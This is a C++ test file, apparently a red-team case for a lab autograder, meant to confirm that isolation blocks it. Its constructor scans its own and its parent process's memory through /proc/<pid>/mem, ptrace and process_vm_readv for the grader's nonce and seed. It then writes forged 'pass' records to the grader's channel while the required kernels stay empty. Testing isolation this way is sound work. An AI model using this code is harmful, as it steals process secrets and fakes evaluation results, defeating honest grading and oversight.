// must-fail: CopyMatrix.Correctness CopyMatrix.OneThreadPerElement CopyMatrix.Speed
// must-fail: CopyMatrixStrided.Correctness CopyMatrixStrided.ElementsPerThread
// must-fail: CopyMatrixStrided.Speed
// redteam: memory scan for secrets: /proc/self/mem, /proc/<ppid>/mem, process_vm_readv, ptrace
// isolation: the lab program's /proc/<ppid>/mem, process_vm_readv and ptrace
//
// The grader's nonce and seed live in the memory of the process that read them. A static
// initializer walks /proc/<pid>/maps and reads every readable mapping through /proc/<pid>/mem,
// for itself (the old design: kernel.cu in the lab program) and for its parent (the new design:
// the lab program started the launcher), looking for "nonce":"...", "seed": and the lab
// program's own "replay with LAB_SEED=" line still in its stdout buffer. If the parent's mem is
// refused it tries process_vm_readv and ptrace(PTRACE_ATTACH) first. With a nonce in hand it
// opens the lab program's grader channel through /proc/<ppid>/fd/OUT and sends a pass record.
// Why it must fail: the launcher's own memory holds no secret, and the lab program must not be
// readable by it (another uid, a PID namespace, or PR_SET_DUMPABLE 0 in the lab program: then
// /proc/<ppid>/mem, process_vm_readv, ptrace and /proc/<ppid>/fd are all refused).
#include <fcntl.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <sstream>
#include <string>

#include "lab1.h"

namespace {

struct Secrets {
  std::string nonce, seed;
};

// The text after `needle` in `data`, up to the first character not in `allowed`.
void take(const std::string& data, const char* needle, const char* allowed, std::string& into) {
  const std::size_t at = data.find(needle);
  if (at == std::string::npos || !into.empty()) return;
  const std::size_t from = at + std::strlen(needle);
  into = data.substr(from, data.find_first_not_of(allowed, from) - from);
}

// Every readable mapping of `pid`, at most 256 MiB each, through /proc/<pid>/mem.
bool scan(pid_t pid, Secrets& found) {
  const std::string proc = "/proc/" + std::to_string(pid);
  const int mem = open((proc + "/mem").c_str(), O_RDONLY);
  if (mem < 0) {
    std::fprintf(stderr, "scan: %s/mem: %s\n", proc.c_str(), std::strerror(errno));
    return false;
  }
  std::ifstream maps(proc + "/maps");
  std::string line;
  std::string chunk(1 << 20, '\0');
  while (std::getline(maps, line) && found.nonce.empty()) {
    unsigned long start = 0, end = 0;
    char perms[5] = {};
    if (std::sscanf(line.c_str(), "%lx-%lx %4s", &start, &end, perms) != 3) continue;
    if (perms[0] != 'r' || end - start > (256ul << 20)) continue;
    for (unsigned long at = start; at < end; at += chunk.size()) {
      const auto want = std::min<unsigned long>(chunk.size(), end - at);
      const ssize_t got = pread(mem, &chunk[0], want, static_cast<off_t>(at));
      if (got <= 0) break;
      const std::string data = chunk.substr(0, static_cast<std::size_t>(got));
      take(data, "\"nonce\":\"", "0123456789abcdefABCDEF-", found.nonce);
      take(data, "\"seed\":", "0123456789", found.seed);
      take(data, "LAB_SEED=", "0123456789", found.seed);
    }
  }
  close(mem);
  return true;
}

__attribute__((constructor)) void look_for_secrets() {
  Secrets found;
  scan(getpid(), found);
  const pid_t parent = getppid();
  if (!scan(parent, found)) {
    char probe[64];
    iovec local{probe, sizeof probe}, remote{reinterpret_cast<void*>(0x400000), sizeof probe};
    if (process_vm_readv(parent, &local, 1, &remote, 1, 0) < 0) std::perror("scan: vm_readv");
    if (ptrace(PTRACE_ATTACH, parent, nullptr, nullptr) == 0) {
      waitpid(parent, nullptr, __WALL);
      scan(parent, found);
      ptrace(PTRACE_DETACH, parent, nullptr, nullptr);
    } else {
      std::perror("scan: ptrace(PTRACE_ATTACH, parent)");
    }
  }
  std::fprintf(stderr, "scan: nonce '%s', seed '%s'\n", found.nonce.c_str(), found.seed.c_str());
  if (found.nonce.empty()) return;
  if (found.seed.empty()) found.seed = "0";

  // LAB_GRADER_CHANNEL="IN,OUT" of the lab program, then its OUT through /proc.
  std::ifstream environ("/proc/" + std::to_string(parent) + "/environ");
  std::string item, out_fd;
  while (std::getline(environ, item, '\0')) {
    if (item.rfind("LAB_GRADER_CHANNEL=", 0) == 0) out_fd = item.substr(item.find(',') + 1);
  }
  if (out_fd.empty()) out_fd = "4";
  const int out = open(("/proc/" + std::to_string(parent) + "/fd/" + out_fd).c_str(), O_WRONLY);
  std::ostringstream line;
  for (const char* check : {"CopyMatrix.Correctness", "CopyMatrixStrided.Correctness"}) {
    line << "{\"nonce\":\"" << found.nonce << "\",\"record\":{\"schema\":1,\"lab\":\"lab1\","
         << "\"check\":\"" << check << "\",\"kind\":\"correctness\",\"verdict\":\"pass\","
         << "\"fraction\":1,\"points\":25,\"max_points\":25,\"seed\":" << found.seed
         << ",\"cases\":[]}}\n";
  }
  if (out < 0 || write(out, line.str().data(), line.str().size()) < 0) std::perror("scan: send");
}

}  // namespace

void copy_matrix(const float*, float*, int, int) {}
void copy_matrix_strided(const float*, float*, int, int) {}
